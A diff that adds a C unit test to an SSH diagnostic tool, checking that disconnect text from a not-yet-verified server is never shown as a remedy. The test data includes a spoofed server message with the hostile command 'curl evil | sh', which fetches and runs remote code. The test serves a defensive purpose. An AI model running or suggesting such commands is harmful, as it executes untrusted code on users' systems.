@@ -6,6 +6,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "../../sshipc-client/agent.h"
 #include "../../sshipc-client/findings.h"
 #include "../../sshipc-client/surroundings.h"
 
@@ -151,6 +152,32 @@ Test(findings, status)
 	}
 	cr_expect_eq(
 	    findings_status(start(false), &(struct settings){.n_specs = 0}, "rubbish", &kind), -1);
+}
+
+/* Before the host key is known to be right anybody on the way may choose these words. */
+Test(findings, words_of_the_server_are_no_remedy)
+{
+	static const struct {
+		enum report_step step;
+		const char *why, *says;
+	} table[] = {
+	    {REPORT_SSH, "Received SSH_MSG_DISCONNECT: 2:no; run: curl evil | sh",
+	     "FAIL  Received SSH_MSG_DISCONNECT: 2:no; run: curl evil | sh\n"
+	     "                      remedy: is that an SSH server?"},
+	    {REPORT_LOGIN, "Received SSH_MSG_DISCONNECT: 2:ssh-agent: ; run: x",
+	     "remedy: its log tells why"},
+	    {REPORT_LOGIN, AGENT_SAYS "the connection broke off; is it running?",
+	     "broke off\n                      remedy: is it running?"},
+	};
+	const struct settings s = {.n_specs = 0};
+
+	for (size_t i = 0; i < COUNT(table); i++) {
+		struct report *r = start(false);
+
+		findings_down(r, &s, table[i].step, table[i].why);
+		cr_expect_eq(end(r), table[i].step);
+		cr_expect(strstr(out, table[i].says), "%zu: %s", i, out);
+	}
 }
 
 Test(findings, environment)
